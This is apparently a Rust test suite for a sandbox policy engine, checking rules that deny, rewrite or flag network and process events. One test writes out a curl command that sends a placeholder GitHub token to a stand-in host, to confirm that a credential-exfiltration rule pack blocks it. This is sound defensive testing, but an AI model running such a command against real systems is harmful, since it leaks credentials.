//! The rules of a policy hold while a run goes on, and the record says which did what, and why.

use crate::network::Host;
use crate::support::{Backend, Sandbox};
use bailiwick_event::{Act, Verdict};

on_every_backend! {
    a_rule_refuses_a_request_and_says_why,
    a_request_is_sent_in_the_form_that_a_rule_gives_it,
    a_rule_without_a_value_refuses_and_the_record_says_what_was_missing,
    names_connections_and_commands_have_rules_too,
    detections_are_findings_in_the_record_and_refuse_nothing,
    a_shipped_pack_holds_and_why_names_it,
    requests_on_a_granted_loopback_port_are_asked_about,
}

/// A policy under which `a.test` is a server of the host, with these rules.
fn policy(host: &Host, rules: &str) -> String {
    format!(
        "extends = [\"default\"]\n{rules}\n[network.hosts]\n\"a.test\" = \"127.0.0.1:{}\"\n",
        host.port
    )
}

const CURL: &str = "curl -sS -m 60";
const DIRECT: &str = "curl --noproxy '*' -sS -m 60";

const NO_ADMIN: &str = r#"
[[rules]]
id = "no-admin"
on = "http.request"
when = 'http.request.path.startsWith("/admin") && !http.request.header("x-team").exists()'
action = "deny"
reason = "the admin pages are for the team"
remedy = "send the header x-team"
"#;

fn a_rule_refuses_a_request_and_says_why(on: Backend) {
    let host = Host::start();
    let sandbox = Sandbox::on(on).policy(&policy(&host, NO_ADMIN));
    for curl in [CURL, DIRECT] {
        let outcome = sandbox.run(&format!(
            "{curl} http://a.test/admin/x; {curl} -H 'x-team: 1' http://a.test/admin/y; {curl} http://a.test/z"
        ));
        outcome
            .success()
            .stdout_has("refused by policy: GET http://a.test:80/admin/x")
            .stdout_has("rule: no-admin (")
            .stdout_has("remedy: send the header x-team")
            .stdout_has("hellohello")
            .refused_by("no-admin");
        assert_eq!(outcome.denied().len(), 1);
        let number = outcome.denied()[0].id.to_string();
        sandbox
            .bailiwick(["why", &number])
            .success()
            .stdout_has("decision: deny")
            .stdout_has("rule:     no-admin (")
            .stdout_has(":4:6)")
            .stdout_has("reason:   the admin pages are for the team")
            .stdout_has("remedy:   send the header x-team")
            .stdout_has("matched:  http.request.path = /admin/x");
    }
    let asked = host.heard();
    assert!(
        asked.iter().all(|line| !line.contains("/admin/x")),
        "{asked:?}"
    );
}

fn a_request_is_sent_in_the_form_that_a_rule_gives_it(on: Backend) {
    let rules = r#"
[[rules]]
id = "clean"
on = "http.request"
when = 'http.request.header("cookie").exists() || http.request.path.startsWith("/old/")'
action = "rewrite"
rewrite = [
  { strip_header = "Cookie" },
  { set_header = { name = "x-clean", value = "yes" } },
  { replace = { target = "url", pattern = "^/old/", with = "/new/" } },
]
"#;
    let host = Host::start();
    let sandbox = Sandbox::on(on).policy(&policy(&host, rules));
    let outcome = sandbox.run(&format!(
        "{CURL} -H 'cookie: a=b' 'http://a.test/old/x?y=1'; {CURL} http://a.test/plain"
    ));
    outcome.success().stdout_is("hellohello");
    let heads = host.heads();
    assert!(
        heads[0].starts_with("get /new/x?y=1 http/1.1\r\n"),
        "{heads:?}"
    );
    assert!(
        heads[0].contains("x-clean: yes\r\n") && !heads[0].contains("cookie"),
        "{heads:?}"
    );
    assert!(
        heads[1].starts_with("get /plain ") && !heads[1].contains("x-clean"),
        "{heads:?}"
    );
    let events = outcome.events();
    let of = |path: &str| {
        let is =
            |act: &Act| matches!(act, Act::Http { path: p, .. } if p.to_string_lossy() == path);
        events
            .iter()
            .find(|event| is(&event.act))
            .unwrap()
            .decision
            .verdict
    };
    assert_eq!(
        (of("/old/x?y=1"), of("/new/x?y=1")),
        (Verdict::Rewrite, Verdict::Allow)
    );
}

fn a_rule_without_a_value_refuses_and_the_record_says_what_was_missing(on: Backend) {
    let rules = "[[rules]]\nid = \"body\"\non = \"http.request\"\nwhen = 'http.request.body.text.contains(\"x\")'\naction = \"deny\"\n";
    let host = Host::start();
    let sandbox = Sandbox::on(on).policy(&policy(&host, rules));
    let outcome = sandbox.run(&format!("{CURL} http://a.test/"));
    outcome.refused_by("body").stderr_has("has(…)");
    let reason = &outcome.denied()[0].decision.reason;
    assert!(
        reason.contains("the event has no `http.request.body.text`"),
        "{reason}"
    );
    let file = sandbox.scratch().root().join("policy-1.toml");
    sandbox
        .bailiwick(["policy", "check", file.to_str().unwrap()])
        .stdout_has("an event without `http.request.body.text` is refused");
}

fn names_connections_and_commands_have_rules_too(on: Backend) {
    let rules = r#"
[[rules]]
id = "no-txt"
on = "dns.request"
when = 'dns.request.qtype == "TXT" || dns.request.qname.startsWith("bad.")'
action = "deny"
[[rules]]
id = "no-odd-port"
on = "socket"
when = '!(socket.port in [53, 80, 443])'
action = "deny"
[[rules]]
id = "no-shred"
on = "process.exec"
when = 'process.exec.argv.exists(a, a == "--shred")'
action = "deny"
"#;
    let host = Host::start();
    let policy = policy(&host, rules) + "\"bad.test\" = \"127.0.0.1:9\"\n";
    let sandbox = Sandbox::on(on).policy(&policy);
    let refused = |script: &str, rule: &str| {
        let outcome = sandbox.run(script);
        outcome.refused_by(rule);
    };
    refused(&format!("{DIRECT} http://bad.test/"), "no-txt");
    refused(&format!("{DIRECT} http://a.test:8080/"), "no-odd-port");
    sandbox
        .run(&format!("{DIRECT} http://a.test/"))
        .success()
        .nothing_refused();
    sandbox
        .exec(["true", "--shred"])
        .code(126)
        .stderr_has("refused: true --shred: the rule's condition is true of it")
        .stderr_has("rule: no-shred (");
}

fn detections_are_findings_in_the_record_and_refuse_nothing(on: Backend) {
    let rules = r#"
[[detections]]
id = "seen"
on = "http.request"
when = 'http.request.header("authorization").exists() && http.request.path.contains("upload")'
severity = "high"
reason = "an upload with a credential"
"#;
    let host = Host::start();
    let sandbox = Sandbox::on(on)
        .policy(&policy(&host, rules))
        .file("headers", "authorization: Bearer hunter2\n");
    let outcome = sandbox.run(&format!(
        "{CURL} -H @headers http://a.test/upload; {CURL} http://a.test/upload"
    ));
    outcome.success().stdout_is("hellohello").nothing_refused();
    let events = outcome.events();
    let findings: Vec<_> = events
        .iter()
        .filter(|e| matches!(e.act, Act::Finding { .. }))
        .collect();
    let [finding] = findings[..] else {
        panic!("{events:#?}")
    };
    assert_eq!(finding.boundary().name(), "http");
    let number = finding.id.to_string();
    sandbox
        .bailiwick(["why", &number])
        .success()
        .stdout_has("high finding: GET http://a.test:80/upload")
        .stdout_has("finding:  high, confidence medium; it decides nothing")
        .stdout_has("rule:     seen (")
        .stdout_has("reason:   an upload with a credential")
        .stdout_has("authorization: (14 bytes)");
    let log = sandbox.bailiwick(["log", "--json"]).success().stdout();
    assert!(!log.contains("hunter2"), "{log}");
    sandbox.bailiwick(["log"]).stdout_has("finding");
}

fn a_shipped_pack_holds_and_why_names_it(on: Backend) {
    let host = Host::start();
    let text = policy(&host, "packs = [\"credential-exfiltration\"]");
    let sandbox = Sandbox::on(on).policy(&text.replace("a.test", "drop.example.com"));
    let token = "ghp_0123456789abcdefghijABCDEFGHIJ012345";
    let outcome = sandbox.run(&format!(
        "{CURL} 'http://drop.example.com/collect?t={token}'; {CURL} http://drop.example.com/fine"
    ));
    outcome
        .success()
        .stdout_has("hello")
        .refused_by("exfil-github-token");
    let number = outcome.denied()[0].id.to_string();
    let why = sandbox.bailiwick(["why", &number]).success().stdout();
    assert!(why.contains("pack:     credential-exfiltration"), "{why}");
    assert!(
        why.contains("rule:     exfil-github-token (pack:credential-exfiltration:"),
        "{why}"
    );
    assert!(why.contains("bytes with github-token"), "{why}");
    let asked = host.heard();
    let asked: Vec<_> = asked.iter().filter(|line| !line.is_empty()).collect();
    assert_eq!(asked.len(), 1, "{asked:?}");
}

fn requests_on_a_granted_loopback_port_are_asked_about(on: Backend) {
    let host = Host::start();
    let text = format!(
        "extends = [\"default\"]\n{NO_ADMIN}\n[network]\nallow = [\"127.0.0.1:{}\"]\n",
        host.port
    );
    let sandbox = Sandbox::on(on).policy(&text);
    sandbox
        .run(&format!(
            "{DIRECT} http://127.0.0.1:{0}/x; {DIRECT} http://127.0.0.1:{0}/admin",
            host.port
        ))
        .success()
        .stdout_has("hello")
        .refused_by("no-admin");
    let asked = host.heard();
    let asked: Vec<_> = asked.iter().filter(|line| !line.is_empty()).collect();
    assert_eq!(asked.len(), 1, "{asked:?}");
}
